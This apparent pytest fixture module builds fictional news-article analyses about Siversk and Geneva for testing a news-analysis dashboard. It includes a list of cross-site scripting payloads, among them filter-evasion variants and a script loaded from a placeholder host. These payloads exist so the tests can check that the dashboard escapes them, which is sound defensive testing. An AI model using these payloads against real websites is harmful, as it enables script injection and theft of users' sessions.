"""Fictional analysed articles for the API and browser tests (imported, not a conftest).

Every outlet, person and quote here is invented; the places are real. The
records are built by hand so these tests do not depend on the extractor or
the analyzer, and offsets are computed from the text so they are exact.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from newsledger.schema import (
    Actor, Analysis, Article, Attribution, Claim, ClaimPlace, Entity, Framing, Mention, Origin, Place,
    Provenance, Quote, Source,
)
from newsledger.store import open_store

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                 "--disable-component-update", "--disable-sync", "--no-first-run"]
# Counts what a payload would need to run if the dashboard ever rendered it as markup.
INJECTED = ("document.querySelectorAll('main script, main iframe, main img, main object, main embed,"
            " [onerror], [onload], [onmouseover], a[href^=\"javascript:\"]').length")


@pytest.fixture(scope="module")
def browser():
    """One headless Chromium per test module (import this fixture into the module that needs it)."""
    from playwright.sync_api import sync_playwright

    with sync_playwright() as pw:
        b = pw.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS, headless=True)
        yield b
        b.close()


# Set by any payload below if it ever runs in the browser.
SENTINEL = "__nl_pwned"
PAYLOADS = [
    f"<script>window.{SENTINEL}=1</script>",
    f'<img src=x onerror="window.{SENTINEL}=1;alert(1)">',
    f"<svg onload=\"window.{SENTINEL}=1\"><script>alert(2)</script></svg>",
    f"&lt;script&gt;window.{SENTINEL}=1&lt;/script&gt;",
    f'<a href="javascript:window.{SENTINEL}=1">click</a>',
    f"\"><iframe srcdoc='<script>parent.{SENTINEL}=1</script>'>",
    # Filter-evasion shapes in the style of the OWASP XSS cheat sheet.
    f"<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
    f"<IMG SRC=JaVaScRiPt:window.{SENTINEL}=1>",
    f"<IMG SRC=`javascript:window.{SENTINEL}=1`>",
    f"<IMG \"\"\"><SCRIPT>window.{SENTINEL}=1</SCRIPT>\">",
    f"<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    f"<IMG SRC=\"jav&#x09;ascript:window.{SENTINEL}=1;\">",
    f"<BODY ONLOAD=window.{SENTINEL}=1>",
    f"<svg/onload=window.{SENTINEL}=1>",
    f"<details open ontoggle=window.{SENTINEL}=1>",
    f"<input autofocus onfocus=window.{SENTINEL}=1>",
    f"<video><source onerror=window.{SENTINEL}=1></video>",
    f"<math><mtext><table><mglyph><style><img src=x onerror=window.{SENTINEL}=1>",
    f"<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    f"<meta http-equiv=\"refresh\" content=\"0;url=javascript:window.{SENTINEL}=1\">",
    f"<style>@import 'javascript:window.{SENTINEL}=1';</style>",
    f"<a href=\"&#x6A;avascript:window.{SENTINEL}=1\">x</a>",
    f"%3Cscript%3Ewindow.{SENTINEL}=1%3C/script%3E",
    f"\\u003cscript\\u003ewindow.{SENTINEL}=1\\u003c/script\\u003e",
    f"<<SCRIPT>window.{SENTINEL}=1//<</SCRIPT>",
    f"<form><button formaction=javascript:window.{SENTINEL}=1>x</button></form>",
]
JS_URL = f"javascript:window.{SENTINEL}=1"

NORTHWIND = Source(name="Northwind Gazette", domain="northwind.example", owner="Northwind State Media (fictional)",
                   country="RU", state_affiliated=True, affiliation_source="https://registry.example/northwind")
HARBOR = Source(name="Harbor Ledger", domain="harbor-ledger.example", owner="Harbor Cooperative", country="UA",
                state_affiliated=False, affiliation_source="https://harbor-ledger.example/about")
LAKESHORE = Source(name="Lakeshore Daily", domain="lakeshore.example", owner="Lakeshore Group", country="US",
                   state_affiliated=False, affiliation_source="https://lakeshore.example/about")

SIVERSK = dict(name="Siversk", geonames_id=700001, country_code="UA", lat=48.8667, lon=38.1)
GENEVA = dict(name="Geneva", geonames_id=700002, country_code="CH", lat=46.2022, lon=6.1457)


def span(text: str, needle: str, nth: int = 0) -> tuple[int, int]:
    start = -1
    for _ in range(nth + 1):
        start = text.index(needle, start + 1)
    return start, start + len(needle)


def _prov(name: str) -> Provenance:
    return Provenance(origin=Origin(kind="html", path=f"fixtures/{name}.html"),
                      fields={"title": "og:title", "published": "json-ld", "text": "trafilatura"},
                      extractor="newsledger-test 0")


def northwind_siversk() -> Analysis:
    text = (
        "Russian forces completed the liberation of Seversk on Thursday, the defence ministry said.\n\n"
        "\u201cThe fall of Seversk opens the road to Kramatorsk,\u201d military analyst Pavel Dronov told the Gazette.\n\n"
        "Dronov added that the operation in Donbass was proceeding according to plan."
    )
    art = Article(id="nw-siversk-0001", url="https://northwind.example/2025/12/12/seversk", source=NORTHWIND,
                  title="Liberation of Seversk marks a turning point", published="2025-12-12T11:00:00+00:00",
                  language="en", authors=["Irina Vetrova"], text=text, provenance=_prov("northwind"))
    q1 = span(text, "The fall of Seversk opens the road to Kramatorsk,")
    q2 = span(text, "the operation in Donbass was proceeding according to plan")
    sev = span(text, "Seversk")
    sent = span(text, "Russian forces completed the liberation of Seversk on Thursday, the defence ministry said.")
    lib = span(text, "liberation")
    return Analysis(
        article=art,
        entities=[
            Entity("Pavel Dronov", "PERSON", *span(text, "Pavel Dronov"), canonical="Pavel Dronov",
                   descriptor="military analyst", confidence=0.97),
            Entity("Seversk", "GPE", *sev, canonical="Siversk", confidence=0.9),
        ],
        quotes=[
            Quote(text[q1[0]:q1[1]], "direct", *q1, speaker="Pavel Dronov",
                  speaker_mention=Mention("Pavel Dronov", *span(text, "Pavel Dronov")), speaker_descriptor="military analyst",
                  cue="told", confidence=0.95),
            Quote(text[q2[0]:q2[1]], "indirect", *q2, speaker="Pavel Dronov",
                  speaker_mention=Mention("Dronov", *span(text, "Dronov", 1)), cue="added", confidence=0.8),
        ],
        places=[
            Place("Seversk", *sev, feature="city", admin1="UA-14", confidence=0.88, **SIVERSK),
            Place("Seversk", *span(text, "Seversk", 1), feature="city", admin1="UA-14", confidence=0.88, **SIVERSK),
        ],
        claims=[
            Claim("TAKE_CONTROL", *sent, text[sent[0]:sent[1]], actor=Actor("Russian forces", "RUS", "military"),
                  place=ClaimPlace("Seversk", start=sev[0], end=sev[1], **SIVERSK), date="2025-12-11",
                  date_text="Thursday", attributions=[Attribution("defence ministry", "organization")],
                  framing=["liberation"], trigger=Mention("completed the liberation", *span(text, "completed the liberation")),
                  confidence=0.9),
        ],
        framing=[Framing("liberation", "liberation", *lib, "capture", neutral="capture", used_by="Russian state media",
                         confidence=0.99)],
    )


def harbor_siversk() -> Analysis:
    text = (
        "Ukrainian troops withdrew from Siversk after weeks of heavy fighting, the general staff confirmed.\n\n"
        "\u201cWe pulled back to save lives,\u201d said Olena Marchuk, a spokeswoman for the eastern command.\n\n"
        "Russian units occupied the ruins of the town on Friday."
    )
    art = Article(id="hl-siversk-0002", url="https://harbor-ledger.example/news/siversk-withdrawal", source=HARBOR,
                  title="Troops withdraw from Siversk", published="2025-12-13T08:30:00+02:00", language="en",
                  authors=["Taras Bondar"], text=text, provenance=_prov("harbor"))
    sv = span(text, "Siversk")
    sent = span(text, "Ukrainian troops withdrew from Siversk after weeks of heavy fighting, the general staff confirmed.")
    q = span(text, "We pulled back to save lives,")
    occ = span(text, "occupied")
    return Analysis(
        article=art,
        entities=[Entity("Olena Marchuk", "PERSON", *span(text, "Olena Marchuk"), canonical="Olena Marchuk",
                         descriptor="spokeswoman", confidence=0.96),
                  Entity("Siversk", "GPE", *sv, canonical="Siversk")],
        quotes=[Quote(text[q[0]:q[1]], "direct", *q, speaker="Olena Marchuk",
                      speaker_mention=Mention("Olena Marchuk", *span(text, "Olena Marchuk")), cue="said", confidence=0.93)],
        places=[Place("Siversk", *sv, feature="city", confidence=0.95, **SIVERSK)],
        claims=[Claim("LOSE_CONTROL", *sent, text[sent[0]:sent[1]], actor=Actor("Ukrainian troops", "UKR", "military"),
                      place=ClaimPlace("Siversk", start=sv[0], end=sv[1], **SIVERSK), date="2025-12-13",
                      attributions=[Attribution("general staff", "organization")], confidence=0.85)],
        framing=[Framing("occupation", "occupied", *occ, "capture", neutral="capture", used_by="Ukrainian media",
                         confidence=0.9)],
    )


def lakeshore_geneva() -> Analysis:
    text = (
        "Negotiators met in Geneva on Monday to resume talks on a ceasefire.\n\n"
        "\u201cNobody expects a breakthrough this week,\u201d Pavel Dronov said in an interview."
    )
    art = Article(id="ls-geneva-0003", url="https://lakeshore.example/world/geneva-talks", source=LAKESHORE,
                  title="Ceasefire talks resume in Geneva", published="2025-12-08T15:00:00-05:00", language="en",
                  text=text, provenance=_prov("lakeshore"))
    g = span(text, "Geneva")
    sent = span(text, "Negotiators met in Geneva on Monday to resume talks on a ceasefire.")
    q = span(text, "Nobody expects a breakthrough this week,")
    return Analysis(
        article=art,
        entities=[Entity("Pavel Dronov", "PERSON", *span(text, "Pavel Dronov"), canonical="Pavel Dronov")],
        quotes=[Quote(text[q[0]:q[1]], "direct", *q, speaker="Pavel Dronov", cue="said", confidence=0.9)],
        places=[Place("Geneva", *g, feature="city", **GENEVA)],
        claims=[Claim("CONSULT", *sent, text[sent[0]:sent[1]], actor=Actor("Negotiators"),
                      place=ClaimPlace("Geneva", start=g[0], end=g[1], **GENEVA), date="2025-12-08")],
    )


def harbor_german() -> Analysis:
    text = "Die Gespräche in Genf wurden am Montag fortgesetzt, berichten Diplomaten."
    art = Article(id="hl-genf-0004", url="https://harbor-ledger.example/de/genf", source=HARBOR,
                  title="Gespräche in Genf fortgesetzt", published="2025-12-09T09:00:00+01:00", language="de",
                  text=text, provenance=_prov("harbor-de"))
    g = span(text, "Genf")
    return Analysis(article=art, places=[Place("Genf", *g, feature="city", **GENEVA)])


def hostile() -> Analysis:
    """Every text field carries markup and script payloads; all of it must render as text."""
    payload = " ".join(PAYLOADS)
    text = f"Breaking {payload} report from Kharkiv.\n\n\u201c{PAYLOADS[0]} is not a quote,\u201d said {PAYLOADS[1]}."
    src = Source(name=f"Evil {PAYLOADS[1]} News", domain="evil.example", owner=PAYLOADS[2], country="ZZ",
                 state_affiliated=True, affiliation_source=JS_URL)
    art = Article(id="evil-0005", url=JS_URL, source=src, title=f"{PAYLOADS[0]} Hostile {PAYLOADS[2]} headline",
                  published="2025-12-11T10:00:00+00:00", language="en", authors=[PAYLOADS[4]], text=text,
                  provenance=Provenance(origin=Origin(kind="html", path=PAYLOADS[3]), fields={"title": PAYLOADS[5]},
                                        extractor=PAYLOADS[1]))
    kh = span(text, "Kharkiv")
    q = span(text, f"{PAYLOADS[0]} is not a quote,")
    sp = span(text, PAYLOADS[1], 1)
    fr = span(text, PAYLOADS[4])
    return Analysis(
        article=art,
        entities=[Entity(PAYLOADS[1], "PERSON", *sp, canonical=PAYLOADS[1], descriptor=PAYLOADS[3])],
        quotes=[Quote(text[q[0]:q[1]], "direct", *q, speaker=PAYLOADS[1], speaker_descriptor=PAYLOADS[2],
                      cue=PAYLOADS[5])],
        places=[Place("Kharkiv", *kh, name=f"Kharkiv {PAYLOADS[2]}", geonames_id=700003, country_code="UA",
                      lat=49.99, lon=36.23, feature="city")],
        claims=[Claim("ATTACK", 0, len(text.split("\n\n")[0]), text.split("\n\n")[0], actor=Actor(PAYLOADS[0]),
                      place=ClaimPlace("Kharkiv", name=f"Kharkiv {PAYLOADS[2]}", geonames_id=700003,
                                       country_code="UA", lat=49.99, lon=36.23),
                      date="2025-12-11", attributions=[Attribution(PAYLOADS[4], "person")], framing=[PAYLOADS[5]])],
        framing=[Framing(PAYLOADS[4], text[fr[0]:fr[1]], *fr, PAYLOADS[2], neutral=PAYLOADS[0], used_by=PAYLOADS[3])],
    )


def fictional_analyses(include_hostile: bool = True) -> list[Analysis]:
    items = [northwind_siversk(), harbor_siversk(), lakeshore_geneva(), harbor_german()]
    return items + [hostile()] if include_hostile else items


def build_store(path: Path, include_hostile: bool = True) -> Path:
    with open_store(path) as store:
        statuses = store.upsert_many(fictional_analyses(include_hostile))
    assert all(s == "new" for s in statuses), statuses
    return path
